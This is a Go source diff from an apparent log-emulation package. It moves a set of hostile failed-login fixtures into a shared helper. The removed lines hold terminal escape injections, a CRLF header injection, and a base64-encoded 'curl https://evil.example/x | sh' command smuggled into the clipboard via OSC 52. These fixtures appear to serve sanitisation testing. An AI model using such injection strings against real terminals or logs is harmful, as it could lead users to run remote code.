@@ -1,9 +1,10 @@
 package domoemu
 
 import (
-	"encoding/base64"
 	"fmt"
 	"time"
+
+	"github.com/trail-dev/trail/sources/emulate"
 )
 
 // The functions below each make one sort of activity in the style of Domo's
@@ -189,16 +190,7 @@ func (g *generator) burst() []Entry {
 // comment would take over a terminal that printed them: clear screen, window
 // title, clipboard (OSC 52), C1 controls, a bidi override and a faked line.
 func (g *generator) hostile(afterBurst bool) []Entry {
-	payload := base64.StdEncoding.EncodeToString([]byte("curl -s https://evil.example/x | sh"))
-	const agent = "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0"
-	cases := []struct{ user, agent string }{
-		{"\x1b[2J\x1b[Hadmin", agent},
-		{"root\x1b]0;Domo Admin\x07", agent},
-		{"guest", "Mozilla/5.0 \x1b]52;c;" + payload + "\x07"},
-		{"admin\u009b31mROOT\u009b0m", agent + "\r\nX-Injected: 1"},
-		{"security\u202emoc.elpmaxe@", agent},
-		{"operator\x1b[1A\x1b[2KLeonard Euler logged in.", agent},
-	}
+	cases := emulate.HostileLogins("Domo Admin", "Leonard Euler logged in.")
 	t := g.now.Truncate(24*time.Hour).AddDate(0, 0, -3).Add(2*time.Hour + 52*time.Minute)
 	out := make([]Entry, len(cases))
 	for i, c := range cases {
@@ -206,9 +198,9 @@ func (g *generator) hostile(afterBurst bool) []Entry {
 		if !afterBurst {
 			ts = g.randomTime()
 		}
-		out[i] = Entry{Time: ts, UserName: c.user, UserID: "0", IPAddress: attackerIP, BrowserDetails: c.agent, Device: "desktop",
-			ActionType: "LOGIN_FAILED", EventText: "Failed login", ObjectType: "USER", ObjectName: c.user,
-			AdditionalComment: fmt.Sprintf("Failed login attempt for %s: no such user.", c.user)}
+		out[i] = Entry{Time: ts, UserName: c.User, UserID: "0", IPAddress: attackerIP, BrowserDetails: c.Agent, Device: "desktop",
+			ActionType: "LOGIN_FAILED", EventText: "Failed login", ObjectType: "USER", ObjectName: c.User,
+			AdditionalComment: fmt.Sprintf("Failed login attempt for %s: no such user.", c.User)}
 	}
 	return out
 }
